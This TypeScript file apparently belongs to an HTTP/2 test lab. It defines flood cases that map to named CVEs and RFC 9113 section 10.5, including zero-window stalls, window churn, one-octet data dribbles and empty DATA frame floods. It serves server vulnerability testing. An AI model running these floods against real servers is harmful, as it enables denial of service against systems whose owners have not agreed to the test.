import type { Http2Case } from '../../../lab/http2/judge-case.ts'
import { get, post, send, settings, until } from '../../../lab/http2/steps.ts'
import { flood } from './flood-case.ts'
import { ROUND, shortGet, shortPost } from './requests.ts'

/** Streams held at the same time: with the last request as many as most servers allow; those beyond a limit are refused. */
const HELD = 99

/** Streams and windows that make the target keep much, or work much, for little (RFC 9113, section 10.5). */
export const heldStreams: readonly Http2Case[] = [
  flood({
    id: 'http2/stalled-responses',
    title: '99 requests whose responses are held back by a window of 0',
    requirements: ['cve-2016-1546', 'rfc9113-10.5-2'],
    needs: ['body'],
    settings: [['INITIAL_WINDOW_SIZE', 0]],
    messages: [shortGet(ROUND)],
    few: 1,
    many: HELD,
    then: [send(settings(['INITIAL_WINDOW_SIZE', 65_535]))]
  }),
  flood({
    id: 'http2/stalled-large-responses',
    title: '99 requests for a large body, held back by a window of 1',
    requirements: ['cve-2016-1546', 'rfc9113-10.5-2'],
    needs: ['large'],
    settings: [['INITIAL_WINDOW_SIZE', 1]],
    messages: [
      {
        frame: 'HEADERS',
        stream: ROUND,
        block: [
          [':method', 'GET'],
          [':scheme', '{scheme}'],
          [':authority', '{authority}'],
          [':path', '{large}']
        ],
        endStream: true
      }
    ],
    few: 1,
    many: HELD,
    mute: true
  }),
  flood({
    id: 'http2/stalled-uploads',
    title: '99 requests of whose content one octet comes',
    requirements: ['cve-2018-17189', 'rfc9113-10.5-2'],
    needs: ['upload'],
    messages: [shortPost(ROUND), { frame: 'DATA', stream: ROUND, data: 'x' }],
    few: 1,
    many: HELD
  }),
  flood({
    id: 'http2/unacknowledged-settings',
    title: 'two thousand requests held back by a peer that never acknowledges SETTINGS',
    requirements: ['cve-2025-53506', 'rfc9113-10.5-2'],
    needs: ['body'],
    opening: [
      { do: 'open' },
      { do: 'automate', set: { acknowledge: false } },
      send({ text: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' }, settings(['INITIAL_WINDOW_SIZE', 0])),
      until({ until: 'settings acknowledged' })
    ],
    messages: [shortGet(ROUND)],
    few: 1,
    many: 2000,
    mute: true
  }),
  flood({
    id: 'http2/data-dribble',
    title: 'a large response drawn octet by octet',
    requirements: ['cve-2019-9511', 'rfc9113-10.5-2'],
    needs: ['large'],
    settings: [['INITIAL_WINDOW_SIZE', 0]],
    given: [
      { do: 'automate', set: { replenish: false } },
      send({
        frame: 'HEADERS',
        stream: 1,
        block: [
          [':method', 'GET'],
          [':scheme', '{scheme}'],
          [':authority', '{authority}'],
          [':path', '{large}']
        ],
        endStream: true
      })
    ],
    messages: [{ frame: 'WINDOW_UPDATE', stream: 1, increment: 1 }],
    mute: true,
    many: 5_000
  }),
  flood({
    id: 'http2/window-churn',
    title: 'thousands of SETTINGS that change the windows of streams held back',
    requirements: ['cve-2019-9515', 'rfc9113-10.5-2'],
    needs: ['body'],
    settings: [['INITIAL_WINDOW_SIZE', 0]],
    given: [send(get(1), get(3), get(5), get(7))],
    messages: [settings(['INITIAL_WINDOW_SIZE', 0], ['INITIAL_WINDOW_SIZE', 1], ['INITIAL_WINDOW_SIZE', 0])],
    many: 4000,
    then: [send(settings(['INITIAL_WINDOW_SIZE', 65_535]))]
  }),
  flood({
    id: 'http2/tiny-data-flood',
    title: 'thousands of DATA frames with one octet each',
    requirements: ['cve-2018-17189', 'rfc9113-10.5-2'],
    needs: ['upload'],
    given: [send(post(1))],
    messages: [{ frame: 'DATA', stream: 1, data: 'x' }],
    then: [send({ frame: 'DATA', stream: 1, data: 'x', endStream: true })],
    many: 5_000
  }),
  flood({
    id: 'http2/empty-data-flood',
    title: 'thousands of empty DATA frames',
    requirements: ['cve-2019-9518', 'rfc9113-10.5-2'],
    needs: ['upload'],
    given: [send(post(1))],
    messages: [{ frame: 'DATA', stream: 1 }],
    then: [send({ frame: 'DATA', stream: 1, data: 'x', endStream: true })],
    many: 5_000
  })
]
